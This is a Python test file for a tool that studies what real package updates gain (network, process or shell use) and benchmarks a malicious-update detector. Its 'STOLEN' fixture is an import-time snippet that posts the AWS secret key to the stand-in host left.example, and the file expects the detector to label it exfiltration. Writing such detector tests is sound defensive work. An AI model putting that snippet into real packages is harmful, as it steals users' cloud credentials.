"""What is learned from real updates: the choice of releases, what counts as gained, and the table."""

from __future__ import annotations

import json
from itertools import pairwise
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from benchmarks import alone, updates
from fimci.capabilities import gains
from fimci.findings import Severity
from tests.archives import Zipped, zip_of
from tools.learn import packages, rates, read, reading, releases
from tools.learn.choose import STEPS, chosen, newest, stable, step
from tools.learn.gained import gained
from tools.learn.reading import Memory, Reading, Told
from tools.learn.releases import Release

NUMBERS = st.tuples(st.integers(0, 3), st.integers(0, 4), st.integers(0, 5))
VERSIONS = st.lists(NUMBERS.map(lambda numbers: ".".join(map(str, numbers))), unique=True)


@given(VERSIONS, st.integers(1, 12))
def test_what_is_chosen_stays_in_bounds_and_knows_its_neighbour(versions: list[str], limit: int) -> None:
    line = stable(versions)
    found = chosen(versions, limit)
    assert len(found) <= limit
    assert all(version in line for version in found)
    for version, before in found.items():
        assert before == ("" if version == line[0] else line[line.index(version) - 1])


@given(VERSIONS)
def test_all_releases_are_chosen_where_there_is_room(versions: list[str]) -> None:
    if len(versions) > 1:
        assert list(chosen(versions, len(versions))) == stable(versions)


def test_steps_are_of_every_kind() -> None:
    versions = [f"{major}.{minor}.{patch}" for major in range(4) for minor in range(4) for patch in range(9)]
    found = chosen(versions, 13)
    assert {step(before, version) for version, before in found.items() if before in found} == set(STEPS)


def test_the_order_is_that_of_numbers_and_pre_releases_are_left_out() -> None:
    assert stable(["1.10", "1.9.1", "1.9", "2.0rc1", "2.0.0-beta.1", "1.9.0"]) == ["1.9.0", "1.9.1", "1.10"]
    assert newest(["1.10", "1.9", "2.0a1"]) == {"1.10": ""}


@pytest.mark.parametrize(("old", "new"), list(pairwise(["1.9", "1.9.1", "1.10.0", "1.10.0.1", "2.0"])))
def test_steps_are_those_that_rules_grade_by(old: str, new: str) -> None:
    if new.count(".") < 3:
        assert step(old, new) == gains.bump(old, new)


def test_no_package_is_both_learned_from_and_measured_on() -> None:
    wanted = list(packages.wanted())
    uses = {
        use: {(one.ecosystem, one.package) for one in wanted if one.use == use}
        for use in ("learning", "held-out", "drawn")
    }
    assert not uses["learning"] & uses["held-out"]
    assert not uses["drawn"] & (uses["learning"] | uses["held-out"])
    assert len(uses["learning"]) >= 150
    for ecosystem in ("npm", "pypi"):
        known = gains_list(ecosystem)
        assert {one.package for one in wanted if one.ecosystem == ecosystem} <= known


def gains_list(ecosystem: str) -> set[str]:
    file = Path(gains.__file__).parents[1] / "packages" / f"popular-{ecosystem}.txt"
    return set(file.read_text().split("\n"))


def test_an_update_gains_what_the_whole_old_release_had_not_so_early() -> None:
    def taken(*told: Told) -> Reading:
        return Reading(
            file="a",
            digest="",
            told=list(told),
            unread=[],
            files=0,
            bytes=0,
            shown=0,
            seconds=0,
            slow=[],
            by_reader={},
        )

    old = taken(
        Told("network", "*", "call", "a.py", 1, "", ""),
        Told("process", "git", "import", "a.py", 2, "", ""),
        Told("shell", "*", "call", "a.py", 3, "", ""),
    )
    moved = Told("network", "*", "call", "b.py", 7, "", "")
    later = Told("process", "git", "call", "a.py", 2, "", "")
    earlier = Told("shell", "*", "import", "a.py", 3, "", "")
    new = Told("process", "curl", "call", "a.py", 9, "", "")
    again = Told("process", "curl", "call", "z.py", 1, "", "")
    assert gained(old, taken(moved, later, new, again, earlier)) == [earlier, new]


def wheel(folder: Path, version: str, code: bytes, use: str = "learning") -> Release:
    name = f"archives/left-{version}-py3-none-any.whl"
    file = folder / name
    file.parent.mkdir(exist_ok=True)
    file.write_bytes(zip_of(Zipped(b"left/__init__.py", code)))
    before = {"1.0.1": "1.0.0", "1.1.0": "1.0.1"}.get(version, "")
    return Release(
        use=use,
        ecosystem="pypi",
        package="left",
        version=version,
        before=before,
        form="wheel",
        file=name,
    )


QUIET = b"import os\n\n\ndef left(text):\n    return text\n"
LOUD = (
    QUIET
    + b"\n\ndef sent(text):\n    import requests\n\n    requests.post('https://left.example/', data=text)\n"
)


def test_releases_are_read_once_and_their_gains_are_counted(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    releases.append(
        tmp_path,
        [wheel(tmp_path, "1.0.0", QUIET), wheel(tmp_path, "1.0.1", QUIET), wheel(tmp_path, "1.1.0", LOUD)],
    )
    read.read_all(tmp_path, "")
    first = list(read.load(tmp_path))
    assert [one.failed for one in first] == ["", "", ""]
    read.read_all(tmp_path, "")
    assert list(read.load(tmp_path)) == first

    monkeypatch.setattr(rates, "TABLE", tmp_path / "rates.json")
    monkeypatch.setattr(rates, "PAGE", tmp_path / "page.md")
    rates.PAGE.write_text("<!-- measured: learned -->\n<!-- end -->\n")
    rates.write(tmp_path, "2026-11-26")
    assert "| network, when called | 0 | 1 | 0 |" in rates.PAGE.read_text()
    table = json.loads((tmp_path / "rates.json").read_text())
    assert table["updates"] == {"pypi minor": 1, "pypi patch": 1}
    assert table["gained"] == {"pypi network host call minor": 1}
    assert "2 updates of 1 package" in capsys.readouterr().out


def test_a_reading_that_was_cut_off_is_taken_again(tmp_path: Path) -> None:
    releases.append(tmp_path, [wheel(tmp_path, "1.0.0", LOUD)])
    read.read_all(tmp_path, "")
    whole = read.path(tmp_path).read_bytes()
    read.path(tmp_path).write_bytes(whole[:-20])
    assert list(read.load(tmp_path)) == []
    read.read_all(tmp_path, "")
    assert [one.failed for one in read.load(tmp_path)] == [""]


def test_files_that_stayed_the_same_are_shown_to_readers_once(tmp_path: Path) -> None:
    memory = Memory()
    old, new = (wheel(tmp_path, version, LOUD) for version in ("1.0.0", "1.0.1"))
    first = reading.read(tmp_path, old.file, memory)
    second = reading.read(tmp_path, new.file, memory)
    assert first.shown > 0
    assert second.shown == 0
    assert first.told == second.told != []


def test_what_is_no_archive_is_told(tmp_path: Path) -> None:
    (tmp_path / "broken.whl").write_bytes(b"not an archive")
    assert "is not an archive" in reading.read(tmp_path, "broken.whl", Memory()).failed


STOLEN = (
    QUIET
    + b"""

def stolen():
    import os

    import requests

    requests.post("https://left.example/", data={"key": os.environ["AWS_SECRET_ACCESS_KEY"]})


stolen()
"""
)


def test_what_is_said_of_updates_is_counted(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    codes = {"1.0.0": QUIET, "1.0.1": QUIET, "1.1.0": STOLEN}
    releases.append(tmp_path, [wheel(tmp_path, version, code, "held-out") for version, code in codes.items()])
    assert updates.main([str(tmp_path), "--log", str(tmp_path / "log")]) == 0
    rows = [line for line in capsys.readouterr().out.split("\n") if line.startswith("| ")]
    assert "| patch | 1 | 0 | 0 | 0 (0.0%) | 0 (0.0%) |" in rows
    assert "| minor | 1 | 0 | 0 | 1 (100.0%) | 1 (100.0%) |" in rows
    assert any(row.startswith("| `exfiltration` | 1 | 1 |") for row in rows)
    assert "exfiltration" in (tmp_path / "log").read_text()


def test_an_update_that_cannot_be_judged_is_a_crash_and_no_end(tmp_path: Path) -> None:
    old, new = (wheel(tmp_path, version, QUIET, "held-out") for version in ("1.0.0", "1.0.1"))
    (tmp_path / new.file).write_bytes(b"not an archive")
    judged = updates.judge(releases.Pair(old, new), tmp_path)
    assert judged.report is None
    assert "is not an archive" in judged.fault
    assert not judged.at(Severity.INFO)


def test_what_is_said_of_releases_alone_is_counted(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    releases.append(
        tmp_path, [wheel(tmp_path, "1.0.0", STOLEN, "newest"), wheel(tmp_path, "1.0.1", QUIET, "newest")]
    )
    assert alone.main([str(tmp_path), "--log", str(tmp_path / "log")]) == 0
    assert "| all | 2 | 1 | 1 |" in capsys.readouterr().out
    assert "left 1.0.0" in (tmp_path / "log").read_text()
